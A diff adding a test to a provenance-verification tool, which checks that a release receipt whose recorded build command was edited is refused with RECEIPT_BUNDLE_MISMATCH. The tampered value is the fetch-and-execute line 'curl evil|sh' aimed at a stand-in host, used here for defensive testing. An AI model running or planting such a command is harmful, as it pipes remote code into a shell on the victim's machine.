@@ -311,6 +311,26 @@ describe("fails closed, each with its own code, and installs nothing", () => {
   });
 });
 
+describe("verify-provenance --receipt: a receipt whose gate command was edited (and re-canonicalised) is not this bundle's receipt", () => {
+  it("refused as RECEIPT_BUNDLE_MISMATCH, never as a pin to accept (the bundle's recorded command is no pin of yours)", async () => {
+    await fresh();
+    await attestRelease(attestOptions());
+    const doc = JSON.parse(staged.receiptBytes.toString("utf8"));
+    doc.evidence.build_metadata.command = "curl evil|sh";
+    const file = join(root, "edited-gate-receipt.json");
+    await writeFile(file, canonicalJsonBytes(doc));
+    const run = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: file });
+    await expect(() => run).toThrowWithCode("RECEIPT_BUNDLE_MISMATCH");
+    await expect(run).rejects.not.toThrow(/pin it instead/);
+    const cli = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--receipt", file], { cwd: root });
+    expect(cli.code).toBe(1);
+    expect(cli.stderr).toMatch(/\[RECEIPT_BUNDLE_MISMATCH\]\n$/);
+    expect(cli.stderr).not.toContain("pin it instead");
+    // Passing: the published receipt itself.
+    await expect(verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: receiptFile })).resolves.toMatchObject({ ok: true, receipt: true });
+  });
+});
+
 describe("PROVENANCE_NOT_FOUND says what the lookup found and ignored", () => {
   it("referrers of another artifactType are counted and named; a referrers tag the API supersedes is named as not consulted", async () => {
     const store = await fresh();
